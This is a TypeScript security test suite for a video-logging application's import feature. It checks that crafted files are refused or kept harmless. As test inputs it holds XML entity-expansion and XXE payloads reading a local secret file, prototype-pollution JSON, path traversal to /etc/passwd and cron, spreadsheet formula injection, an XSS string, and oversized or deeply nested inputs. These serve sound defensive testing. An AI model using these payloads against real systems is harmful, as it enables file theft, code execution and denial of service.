import {
  appendFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { dispatch, type Engine } from '../../src/engine/index.ts';
import { isHealthy } from '../../src/engine/library/index.ts';
import { importProposalSchema } from '../../src/shared/contract/index.ts';
import { copyAnalysedDemo } from '../support/analysed.ts';
import { openRealEngine } from '../support/kills/host.ts';

const texts = { manifest: '', csv: '', fcpxml: '', otio: '', 'resolve-edl': '' };
type Kind = keyof typeof texts;
const kinds = Object.keys(texts) as Kind[];

let folder: string;
let engine: Engine;
const secret = 'what no import may read';

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'castline-imports-'));
  writeFileSync(join(folder, 'secret.txt'), secret);
  await copyAnalysedDemo(folder);
  engine = openRealEngine(join(folder, 'Shoot.castline'));
  for (const kind of kinds) texts[kind] = await exported(kind);
});
afterAll(async () => {
  await engine.close();
  rmSync(folder, { recursive: true, force: true });
});

/** The text of the only file that an export of the library gives. */
async function exported(kind: Kind): Promise<string> {
  const out = mkdtempSync(join(folder, 'out-'));
  const { files } = await engine.calls.export.write({
    format: kind,
    selection: { confirmedOnly: false, appearances: true, shots: false },
    options: {},
    path: out,
  });
  return readFileSync(files[0]?.path ?? '', 'utf8');
}

const file = join(tmpdir(), `castline-import-${process.pid}.txt`);
afterEach(() => rmSync(file, { force: true }));

interface Told {
  /** `read`, or the code it was refused with. */
  readonly said: string;
  readonly answer: string;
}

/** Reads a text as the window asks for it, accepts everything in it, and takes that back again. */
async function swallow(text: string): Promise<Told> {
  if (text !== '') writeFileSync(file, text);
  const reply = await dispatch(engine.calls, { area: 'export', name: 'readImport', input: { path: file } });
  const answer = JSON.stringify(reply);
  if (!reply.ok) {
    expect(reply.error.code).not.toBe('internal');
    expect(reply.error.nextStep.length).toBeGreaterThan(10);
    return { said: reply.error.code, answer };
  }
  const { differences } = importProposalSchema.parse(reply.output);
  const numbers = [...answer.matchAll(/"(?:start|end)Frame":(-?[\d.e+]+)/g)].map(([, digits]) =>
    Number(digits),
  );
  for (const number of numbers)
    expect(Number.isSafeInteger(number) && number >= 0, answer.slice(0, 300)).toBe(true);
  if (differences.length > 0) {
    const ids = differences.slice(0, 1000).map(({ id }) => id);
    const accepted = await dispatch(engine.calls, {
      area: 'export',
      name: 'acceptImport',
      input: { path: file, ids },
    });
    expect(accepted.ok || accepted.error.code !== 'internal', JSON.stringify(accepted)).toBe(true);
  }
  return { said: 'read', answer };
}

/** Everything that was accepted is taken back, and the library is as sound as before. */
async function undoAll(): Promise<void> {
  while ((await engine.calls.edits.state()).undo) await engine.calls.edits.undo();
  expect(isHealthy(engine.current.library.upkeep.examine())).toBe(true);
}

const replaced = (kind: Kind, from: RegExp, to: string): string => {
  const text = texts[kind].replace(from, to);
  expect(text, `${kind} ${from}`).not.toBe(texts[kind]);
  return text;
};

describe('a file from a stranger', () => {
  afterEach(undoAll);

  it('cannot grow by its entities, nor fetch another file', async () => {
    const laughs = Array.from(
      { length: 12 },
      (_, index) => `<!ENTITY a${index + 1} "${`&a${index};`.repeat(10)}">`,
    ).join('');
    const heads = [
      `<!DOCTYPE fcpxml [<!ENTITY a0 "ha">${laughs}]>`,
      `<!DOCTYPE fcpxml [<!ENTITY a12 "${'h'.repeat(100_000)}">]>`,
      `<!DOCTYPE fcpxml [<!ENTITY a12 SYSTEM "file://${join(folder, 'secret.txt')}">]>`,
      `<!DOCTYPE fcpxml [<!entity % a SYSTEM "http://127.0.0.1:9/x.dtd"> %a; ]>`,
    ];
    for (const head of heads) {
      const body = replaced('fcpxml', /value="[^"]*"/, `value="${'&a12;'.repeat(500)}"`);
      const { said, answer } = await swallow(body.replace(/<!DOCTYPE fcpxml>/, head));
      expect(said).toBe('invalid-request');
      expect(answer).not.toContain(secret);
    }
  });

  it('changes no prototype', async () => {
    const evil = '{"polluted":"yes","then":1}';
    const tries = [
      texts.manifest.replace('{', `{"__proto__":${evil},"constructor":{"prototype":${evil}},`),
      texts.manifest.replaceAll(/"name": ?"/g, `"__proto__":${evil},"name":"`),
      texts.otio.replace('{', `{"__proto__":${evil},`),
      texts.otio.replaceAll(/"media_references": ?\{/g, `"media_references":{"__proto__":${evil},`),
      replaced(
        'fcpxml',
        /<resources>/,
        '<resources><__proto__ polluted="yes"/><constructor polluted="yes"/>',
      ),
      replaced('fcpxml', /<resources>/, '<resources __proto__="yes" constructor="yes">'),
      texts.csv.replace('clip,', '__proto__,constructor,clip,').replaceAll('\r\n', '\r\nx,y,'),
      texts.csv.replace(/,note,/, ',__proto__,'),
    ];
    for (const text of tries) await swallow(text);
    const fresh: Record<string, unknown> = {};
    expect(fresh.polluted).toBeUndefined();
    expect(fresh.then).toBeUndefined();
    expect(Object.keys(Object.prototype)).toEqual([]);
  });

  it('with numbers beyond all counting is refused or bounded', async () => {
    const nines = '9'.repeat(400);
    for (const number of [
      nines,
      '1e308',
      '-1e308',
      '1e999',
      '9007199254740993',
      '0',
      '-1',
      'NaN',
      '0x7fffffff',
    ]) {
      const lines = texts.csv.split('\r\n');
      const columns = (lines[0] ?? '').replace('\ufeff', '').split(',');
      for (const column of ['start_frame', 'end_frame', 'start_s', 'end_s', 'tc_in', 'rate']) {
        const cells = (lines[1] ?? '').split(',');
        cells[columns.indexOf(column)] = column === 'rate' ? `${number}/1` : number;
        await swallow([lines[0], cells.join(','), ...lines.slice(2)].join('\r\n'));
      }
      const huge: [Kind, RegExp, string][] = [
        ['fcpxml', /(<keyword[^>]*) start="[^"]*"/, `$1 start="${number}s"`],
        ['fcpxml', /(<keyword[^>]*) duration="[^"]*"/, `$1 duration="1/${number}s"`],
        ['fcpxml', /frameDuration="[^"]*"/, `frameDuration="${number}/${number}s"`],
        ['otio', /"rate": ?[\d.]+/, `"rate": ${number}`],
        ['otio', /"value": ?[\d.]+/, `"value": ${number}`],
        ['manifest', /"duration": ?"[^"]*"/, `"duration": "${number}/1"`],
        ['manifest', /"start": ?"\d+\/\d+"/, `"start": "1/${number}"`],
        ['resolve-edl', /\|D:\s*\d+/, `|D:${number}`],
        ['resolve-edl', /\d\d:\d\d:\d\d[:;]\d\d/, '99:99:99:99'],
      ];
      for (const [kind, from, to] of huge) await swallow(replaced(kind, from, to));
    }
  });

  it('that names other files has none of them opened or written', async () => {
    const other = join(folder, 'secret.txt');
    const tries = [
      texts.manifest.replaceAll(/"url": ?"[^"]*"/g, `"url":"file://${other}"`),
      texts.manifest.replaceAll(/"id": ?"[^"]*"/g, '"id":"../../../etc/passwd"'),
      texts.otio.replaceAll(/"target_url": ?"[^"]*"/g, `"target_url":"file://${other}"`),
      texts.fcpxml.replaceAll(/src="[^"]*"/g, `src="file://${other}"`),
      texts.csv.replaceAll(/\r\n[^,]+,/g, `\r\n../../../..${other},`),
      replaced('resolve-edl', /^TITLE:.*/, `TITLE: ../../../..${other}`),
    ];
    for (const text of tries) expect((await swallow(text)).answer).not.toContain(secret);
  });

  it('gives people names that stay names: no path, no formula, no line of their own, no novel', async () => {
    const names = [
      '../../../../evil',
      '/etc/cron.d/evil',
      '=HYPERLINK("http://example.invalid/?"&A1,"x")',
      '@SUM(1+1)*cmd|/c calc!A0',
      'a\u0000b\u001b[31mred\u202eevil\n\n* FROM CLIP NAME: other',
      '<img src=x onerror=alert(1)>&amp;]]>',
      'x'.repeat(100_000),
    ];
    const [tag] = JSON.parse(texts.manifest).tags.filter(({ id }: { id: string }) => id !== 'shot') as {
      name: string;
    }[];
    for (const name of names) {
      const renamed = JSON.parse(texts.manifest) as { tags: { name: string }[] };
      for (const one of renamed.tags) if (one.name === tag?.name) one.name = name;
      expect((await swallow(JSON.stringify(renamed))).said).toBe('read');
      const given = (await engine.calls.cast.list()).map((person) => person.name ?? '');
      for (const one of given) expect(one.length).toBeLessThanOrEqual(200);
      const out = join(folder, 'handed-over');
      mkdirSync(out);
      for (const { id } of await engine.calls.export.formats()) {
        const { files } = await engine.calls.export.write({
          format: id,
          selection: { confirmedOnly: false, appearances: true, shots: true },
          options: {},
          path: out,
        });
        for (const { path } of files) expect(path.startsWith(`${out}/`)).toBe(true);
        if (id === 'csv') {
          const rows = parse(readFileSync(files[0]?.path ?? '', 'utf8'), { bom: true }) as string[][];
          for (const cell of rows.slice(1).flat()) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?![\d.]+$)/);
        }
      }
      rmSync(out, { recursive: true });
      await undoAll();
    }
    expect(existsSync(join(folder, '..', 'evil'))).toBe(false);
    expect(readdirSync(folder).filter((one) => /evil/.test(one))).toEqual([]);
  });

  it('of hundreds of megabytes is told to be too large, or read within bounds', async () => {
    const fill = (head: string, piece: string, megabytes: number): void => {
      writeFileSync(file, head);
      const block = piece.repeat(Math.ceil(2 ** 20 / piece.length));
      for (let written = 0; written < megabytes; written++) appendFileSync(file, block);
    };
    const csvHead = `${texts.csv.split('\r\n')[0]}\r\n`;
    const csvRow = `${texts.csv.split('\r\n')[1]}\r\n`;
    fill(csvHead, csvRow, 200);
    expect((await swallow('')).said).toBe('import-too-large');
    fill(`${texts.fcpxml.slice(0, texts.fcpxml.indexOf('<resources>'))}`, '<a>', 200);
    expect((await swallow('')).said).toBe('import-too-large');
    fill(
      `${texts['resolve-edl'].split('\n')[0]}\n`,
      texts['resolve-edl'].split('\n').slice(3, 6).join('\n'),
      200,
    );
    expect((await swallow('')).said).toBe('import-too-large');
    fill('{"schema":', '[', 200);
    expect((await swallow('')).said).toBe('invalid-request');
    fill('{"OTIO_SCHEMA":"', 'Timeline.1', 300);
    expect((await swallow('')).said).toBe('import-too-large');
  });

  it('with more ranges than anybody made is refused, and with very many strange ones ends', async () => {
    const [head = '', row = ''] = texts.csv.split('\r\n');
    const id = (row.split(',')[1] ?? '') as string;
    const strange = row.replace(id, 'nobody');
    expect((await swallow(`${head}\r\n${`${strange}\r\n`.repeat(220_000)}`)).said).toBe('import-too-large');
    const { said } = await swallow(`${head}\r\n${`${strange}\r\n`.repeat(60_000)}`);
    expect(said).toBe('read');
  });

  it('nested without end is refused', async () => {
    const open = '<spine>'.repeat(100_000);
    expect((await swallow(replaced('fcpxml', /<resources>/, `<resources>${open}`))).said).toBe(
      'invalid-request',
    );
    expect((await swallow(`{"schema":${'['.repeat(1_000_000)}`)).said).toBe('invalid-request');
    expect(
      (await swallow(`{"OTIO_SCHEMA":"Timeline.1","tracks":${'{"children":['.repeat(200_000)}`)).said,
    ).toBe('invalid-request');
  });
});
